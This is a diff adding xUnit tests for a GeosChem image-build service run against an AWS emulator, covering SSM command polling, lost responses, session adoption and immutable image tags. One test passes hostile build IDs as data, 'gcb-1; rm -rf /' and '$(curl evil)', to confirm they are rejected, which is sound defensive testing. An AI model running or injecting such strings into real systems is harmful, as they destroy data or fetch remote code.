@@ -3,10 +3,12 @@ using System.Formats.Tar;
 using System.IO.Compression;
 using System.Text.RegularExpressions;
 using GeosChem.AwsEmulator;
+using GeosChem.AwsEmulator.Handlers;
 using GeosChem.PowerShell.Aws;
 using GeosChem.PowerShell.Aws.Ecr;
 using GeosChem.PowerShell.Aws.Protocol;
 using GeosChem.PowerShell.Aws.Sdk;
+using GeosChem.PowerShell.Errors;
 using GeosChem.PowerShell.Images;
 using GeosChem.PowerShell.Models;
 
@@ -188,6 +190,7 @@ public sealed class ImageBuildTests(EmulatorFixture fixture) : IClassFixture<Emu
         InstanceRecord instance;
         lock (Region.Gate) instance = Assert.Single(Region.Instances);
         Assert.Equal(("required", "terminate", null), (instance.HttpTokens, instance.ShutdownBehavior, instance.KeyName));
+        Assert.Equal(1, instance.HttpPutResponseHopLimit);
         Assert.Equal(["sg-0builder"], instance.SecurityGroupIds);
         Assert.Equal("geoschem-builder", instance.InstanceProfile);
         Assert.Equal("gcb-success00001", instance.Tags[ImageBuildService.BuildIdTag]);
@@ -228,5 +231,99 @@ public sealed class ImageBuildTests(EmulatorFixture fixture) : IClassFixture<Emu
         Assert.StartsWith("building gcclassic", build.Step);
         Assert.Contains(recorder.Lines, l => l.StartsWith("stderr: Error: building at step 3", StringComparison.Ordinal));
         lock (Region.Gate) Assert.Empty(Region.Repositories["geoschem"].Images);
+    }
+
+    [Fact]
+    public async Task AnInvocationSsmDoesNotKnowYetIsPendingNotAFailure()
+    {
+        fixture.Emulator.State.Reset();
+        lock (Region.Gate) Region.Ssm = new SsmSettings { CommandSeconds = 0.3, InvocationVisibleAfterSeconds = 1.0 };
+        var (service, _) = Service();
+        var recorder = new Recorder();
+        var build = await service.LaunchAsync(Classic(), Settings, "gcb-notyet000001", recorder, default);
+        var (asked, answered) = (fixture.Emulator.Received("GetCommandInvocation"), fixture.Emulator.Handled("GetCommandInvocation"));
+        await service.SendBuildAsync(build, Classic(), Settings, recorder, default);
+        await service.FollowAsync(build, TimeSpan.FromMilliseconds(50), TimeSpan.FromMinutes(1), recorder, default);
+
+        Assert.Equal("Succeeded", build.Status);
+        // Every GetCommandInvocation not handled was answered InvocationDoesNotExist (no faults are injected here).
+        Assert.True(fixture.Emulator.Received("GetCommandInvocation") - asked > fixture.Emulator.Handled("GetCommandInvocation") - answered, "the emulator never answered InvocationDoesNotExist");
+        lock (Region.Gate) Assert.Single(Region.Commands);
+    }
+
+    [Fact]
+    public async Task ASendCommandWhoseAnswerIsLostIsFoundNotSentAgain()
+    {
+        fixture.Emulator.State.Reset();
+        lock (Region.Gate) Region.Ssm = new SsmSettings { CommandSeconds = 0.3 };
+        var (service, _) = Service();
+        var recorder = new Recorder();
+        var build = await service.LaunchAsync(Classic(), Settings, "gcb-lostanswer01", recorder, default);
+        // The builder is running and its agent answers: the one SendCommand is accepted, and only its answer is lost.
+        fixture.Emulator.Clock.Advance(TimeSpan.FromSeconds(InstanceLifecycle.PendingSeconds + 1));
+        var sendsBefore = fixture.Emulator.Received("SendCommand");
+        fixture.Emulator.Faults.Settings = new FaultSettings { DropAfterHandlingRate = 1, Operations = ["SendCommand"] };
+        long sends;
+        try
+        {
+            await service.SendBuildAsync(build, Classic(), Settings, recorder, default);
+        }
+        finally
+        {
+            sends = fixture.Emulator.Received("SendCommand") - sendsBefore;
+            fixture.Emulator.Faults.Reset(); // also clears the counters
+        }
+        await service.FollowAsync(build, TimeSpan.FromMilliseconds(50), TimeSpan.FromMinutes(1), recorder, default);
+
+        Assert.Equal("Succeeded", build.Status);
+        SsmCommand sent;
+        lock (Region.Gate) sent = Assert.Single(Region.Commands.Values);
+        Assert.Equal(sent.CommandId, build.CommandId);
+        Assert.Equal(1, sends);
+    }
+
+    [Fact]
+    public async Task ASecondSessionAdoptsTheCommandAlreadySent()
+    {
+        fixture.Emulator.State.Reset();
+        lock (Region.Gate) Region.Ssm = new SsmSettings { CommandSeconds = 5 };
+        var (service, _) = Service();
+        var build = await service.LaunchAsync(Classic(), Settings, "gcb-twosession01", new Recorder(), default);
+        await service.SendBuildAsync(build, Classic(), Settings, new Recorder(), default);
+        var again = await service.LaunchAsync(Classic(), Settings, "gcb-twosession01", new Recorder(), default);
+        await service.SendBuildAsync(again, Classic(), Settings, new Recorder(), default);
+
+        Assert.Equal(build.CommandId, again.CommandId);
+        lock (Region.Gate) Assert.Single(Region.Commands);
+    }
+
+    [Theory]
+    [InlineData("gcb-1; rm -rf /")]
+    [InlineData("$(curl evil)")]
+    [InlineData("")]
+    public async Task ABuildIdThatCouldReachAShellIsRefusedBeforeAnythingIsLaunched(string buildId)
+    {
+        fixture.Emulator.State.Reset();
+        var (service, _) = Service();
+        var error = await Assert.ThrowsAsync<GcException>(() => service.LaunchAsync(Classic(), Settings, buildId, new Recorder(), default));
+        Assert.Equal("GcImageBuildIdInvalid", error.ErrorId);
+        lock (Region.Gate) Assert.Empty(Region.Instances);
+    }
+
+    [Fact]
+    public async Task ARebuildOfATagInAnImmutableRepositoryIsCaughtBeforeABuilderIsLaunched()
+    {
+        fixture.Emulator.State.Reset();
+        lock (Region.Gate) Region.Ssm = new SsmSettings { CommandSeconds = 0.3 };
+        var (service, _) = Service();
+        var build = await service.LaunchAsync(Classic(), Settings, "gcb-immutable001", new Recorder(), default);
+        await service.SendBuildAsync(build, Classic(), Settings, new Recorder(), default);
+        await service.FollowAsync(build, TimeSpan.FromMilliseconds(50), TimeSpan.FromMinutes(1), new Recorder(), default);
+        Assert.Equal("Succeeded", build.Status);
+        lock (Region.Gate) Assert.Equal("IMMUTABLE", Region.Repositories["geoschem"].ImageTagMutability);
+
+        var again = await Assert.ThrowsAsync<GcException>(() => service.LaunchAsync(Classic(), Settings, "gcb-immutable002", new Recorder(), default));
+        Assert.Equal("GcImageTagExists", again.ErrorId);
+        lock (Region.Gate) Assert.Single(Region.Instances);
     }
 }
